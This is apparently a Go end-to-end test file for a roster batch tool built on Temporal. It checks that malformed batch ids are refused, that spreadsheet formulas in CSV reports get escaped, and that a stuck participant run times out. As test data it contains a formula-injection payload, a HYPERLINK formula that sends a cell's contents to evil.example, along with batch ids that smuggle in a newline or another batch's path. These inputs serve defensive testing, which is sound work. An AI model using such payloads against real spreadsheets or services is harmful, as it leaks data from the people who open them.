package e2e

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"go.temporal.io/api/serviceerror"

	"github.com/cohort-dev/cohort/bootstrap"
	"github.com/cohort-dev/cohort/control"
	"github.com/cohort-dev/cohort/roster"
	"github.com/cohort-dev/cohort/workflows"
)

// Issue 17's guards through the real processes: batch ids that are refused
// before anything is stored, a report safe to open in a spreadsheet, and a
// participant whose run can never finish failing by name.

// rosterFiles lists what the roster store holds, for "nothing was stored".
func (s *scenario) rosterFiles() []string {
	s.t.Helper()
	entries, err := os.ReadDir(s.cfg.RosterDir)
	if errors.Is(err, os.ErrNotExist) {
		return nil
	}
	if err != nil {
		s.t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return names
}

// noWorkflow fails unless Temporal has no workflow with this id (a
// describe, not the eventually consistent list).
func (s *scenario) noWorkflow(id string) {
	t := s.t
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := s.tc.DescribeWorkflowExecution(ctx, id, "")
	var nf *serviceerror.NotFound
	if !errors.As(err, &nf) {
		t.Errorf("workflow %q: describe = %v, want not found (nothing started)", id, err)
	}
}

// TestBatchIDs_refusedBeforeAnythingIsStored (issue 17, defect 9): a batch
// id that could name another batch's chunk, or that Temporal cannot carry,
// is refused with exit 2 before the roster is stored or any workflow
// started; so is any command's BATCH argument of that kind.
func TestBatchIDs_refusedBeforeAnythingIsStored(t *testing.T) {
	t.Parallel()
	s := newScenario(t, "batch-ids", "ids.e2e.example", 0, 9)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	// No worker runs here: register the search attributes it would, so that
	// a batch id that is not refused would indeed start its workflow.
	if err := bootstrap.EnsureSearchAttributes(ctx, s.tc, s.ns); err != nil {
		t.Fatal(err)
	}
	file := s.writeRoster("day1.csv", roster.Synthesize(3, 9, s.domain))
	before := s.rosterFiles()
	listed := allWorkflowIDs(t, s.tc, s.ns)

	bad := []struct{ name, id string }{
		{"another batch's chunk", "victim/chunk-00000"},
		{"a newline", "day1\nday2"},
		{"1,200 characters", strings.Repeat("b", 1200)},
	}
	for _, b := range bad {
		t.Run("submit --batch with "+b.name, func(t *testing.T) {
			r := s.starter(time.Minute, "submit", "--wait", "--batch", b.id, file)
			if r.code != 2 {
				t.Fatalf("exit code %d, want 2\n%s", r.code, r)
			}
			if !strings.Contains(r.stderr, "submit: --batch: expected 1 to 64 letters, digits, '.', '_' or '-'") ||
				!strings.Contains(r.stderr, "nothing was submitted") {
				t.Errorf("stderr does not say what a batch id must be:\n%s", r.stderr)
			}
			if strings.Contains(r.stdout, "-> batch") || strings.Contains(r.stderr, "rpc error") {
				t.Errorf("output names a batch or a raw gRPC error:\n%s", r)
			}
			if !strings.Contains(b.id, "\n") { // one Temporal could not even look up
				s.noWorkflow(workflows.BatchWorkflowID(b.id))
			}
		})
	}
	for _, args := range [][]string{
		{"offboard", "--dry-run", "victim/chunk-00000"},
		{"offboard", "victim/chunk-00000"},
		{"reconcile", "victim/chunk-00000"},
		{"status", "victim/chunk-00000"},
		{"report", "victim/chunk-00000"},
		{"retry-failed", "victim/chunk-00000"},
		{"status", "day1\nday2"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			r := s.starter(time.Minute, args[0], args[1:]...)
			if r.code != 2 {
				t.Fatalf("exit code %d, want 2\n%s", r.code, r)
			}
			if !strings.Contains(r.stderr, "expected a batch id") || strings.Contains(r.stderr, "rpc error") {
				t.Errorf("stderr does not say what a batch id must be:\n%s", r.stderr)
			}
			if strings.Contains(r.stdout, "-> batch") {
				t.Errorf("stdout names a batch:\n%s", r.stdout)
			}
		})
	}
	if after := s.rosterFiles(); !slices.Equal(after, before) {
		t.Errorf("roster store holds %v, want it unchanged %v", after, before)
	}
	for id := range allWorkflowIDs(t, s.tc, s.ns) {
		if listed[id] == 0 {
			t.Errorf("workflow %s started by a refused command", id)
		}
	}

	// The checks would have seen it: a valid id stores the roster and
	// starts its batch (no worker runs here, so it is terminated).
	batch, _ := s.submit(0, time.Minute, "--batch", "victim", file)
	if batch != "victim" {
		t.Fatalf("batch id = %q, want victim", batch)
	}
	if after := s.rosterFiles(); slices.Equal(after, before) {
		t.Errorf("roster store unchanged after a valid submit: the check above proves nothing")
	}
	if err := s.tc.TerminateWorkflow(ctx, workflows.BatchWorkflowID(batch), "", "e2e: control batch"); err != nil {
		t.Errorf("terminate the control batch: %v", err)
	}
}

// TestReport_csvSafeToOpen (issue 17, defect 5): a display name that a
// spreadsheet would run as a formula comes out of `report --format csv`
// with a leading ', and as it is in JSON.
func TestReport_csvSafeToOpen(t *testing.T) {
	t.Parallel()
	s := newScenario(t, "csv", "csv.e2e.example", 0, 5)
	s.startWorker()
	names := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Open your cluster")`,
		"+1 Taro",
		"-2+3 Hanako",
		"@SUM(1+1) Ken",
		"Plain Name",
	}
	rows := make([][]string, len(names))
	for i, n := range names {
		rows[i] = []string{fmt.Sprintf("p%d@%s", i, s.domain), n}
	}
	file := s.writeRoster("formulas.csv", csvBytes(t, []string{"email", "display_name"}, rows))
	batch, _ := s.submit(0, 5*time.Minute, "--wait", file)

	byEmail := map[string]map[string]string{}
	for _, row := range s.report(batch) {
		byEmail[row["email"]] = row
	}
	for i, n := range names {
		want := n
		if i < 4 {
			want = "'" + n
		}
		row := byEmail[rows[i][0]]
		if row == nil {
			t.Errorf("report lacks %s", rows[i][0])
			continue
		}
		if got := row["display_name"]; got != want {
			t.Errorf("CSV display_name of %s = %q, want %q", rows[i][0], got, want)
		}
		if row["status"] != "ok" {
			t.Errorf("%s: status %q, want ok", rows[i][0], row["status"])
		}
	}

	r := s.starter(time.Minute, "report", batch, "--format", "json")
	if r.code != 0 {
		t.Fatalf("report --format json: exit %d\n%s", r.code, r)
	}
	var js []struct {
		Email       string `json:"email"`
		DisplayName string `json:"display_name"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &js); err != nil {
		t.Fatalf("report --format json is not JSON: %v\n%s", err, r.stdout)
	}
	for _, row := range js {
		i := slices.IndexFunc(rows, func(x []string) bool { return x[0] == row.Email })
		if i < 0 || row.DisplayName != names[i] {
			t.Errorf("JSON row %+v, want the display name as written", row)
		}
	}
}

// participantTimeoutConfig bounds participant runs tightly: a run on the
// emulator takes seconds, so 30s cuts only one that cannot finish.
const participantTimeoutConfig = "batch:\n  participant_timeout: 30s\n"

// TestParticipantTimeout_wedgedRunFailsByName (issue 17, "nothing waits
// forever"): a participant whose every workflow task fails (a workflow ID
// gRPC cannot carry in a header: a non-ASCII address, written straight into
// the roster store, past whatever the validator does) ends failed by name
// at step workflow within participant_timeout; the batch completes, the
// others are ok, and `starter status` exits 1 naming it.
func TestParticipantTimeout_wedgedRunFailsByName(t *testing.T) {
	t.Parallel()
	s := newScenario(t, "wedge", "wedge.e2e.example", 0, 17)
	s.addConfig("participant-timeout.yaml", participantTimeoutConfig)
	s.startWorker()

	emails := []string{"taro@" + s.domain, "山田@" + s.domain, "hanako@" + s.domain}
	ps := make([]roster.Participant, len(emails))
	for i, e := range emails {
		ps[i] = roster.Participant{Email: e, DisplayName: "Person " + fmt.Sprint(i), Line: i + 2}
		ps[i].Schema, ps[i].ClusterName = s.cfg.RosterNaming().Derive(e)
	}
	cl := &control.Client{Temporal: s.tc, Namespace: s.ns, UIAddress: s.cfg.Temporal.UIAddress,
		Store: roster.Store{Dir: s.cfg.RosterDir}, Batch: s.cfg.Batch}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	sub, err := cl.Submit(ctx, ps, "wedge-1") // stores the roster as given, then starts the batch
	if err != nil {
		t.Fatal(err)
	}
	p, err := cl.Wait(ctx, sub.BatchID, time.Second, func(control.Progress) {})
	if err != nil {
		t.Fatalf("batch %s did not complete: %v", sub.BatchID, err)
	}
	if p.Failure != "" || p.Counts.OK != 2 || p.Counts.Failed != 1 {
		t.Errorf("batch ended %+v, want completed with 2 ok and 1 failed", p)
	}

	st := s.starter(time.Minute, "status", sub.BatchID)
	if st.code != 1 {
		t.Errorf("status: exit %d, want 1\n%s", st.code, st)
	}
	for _, want := range []string{
		"3 participants, 2 ok, 1 failed",
		"FAILED 山田@" + s.domain + " at workflow: did not finish within 30s (batch.participant_timeout): its workflow tasks kept failing (see the worker log) or a step hung",
	} {
		if !strings.Contains(st.stdout, want) {
			t.Errorf("status lacks %q:\n%s", want, st.stdout)
		}
	}
	for _, row := range s.report(sub.BatchID) {
		wantStatus := "ok"
		if strings.HasPrefix(row["email"], "山田@") {
			wantStatus = "failed"
		}
		if row["status"] != wantStatus {
			t.Errorf("report row %v: status %q, want %s", row, row["status"], wantStatus)
		}
	}
}

// fileLineMessage is a FILE:LINE: message of the starter's validation.
var fileLineMessage = regexp.MustCompile(`(?m)^([^\s:]+):(\d+): `)
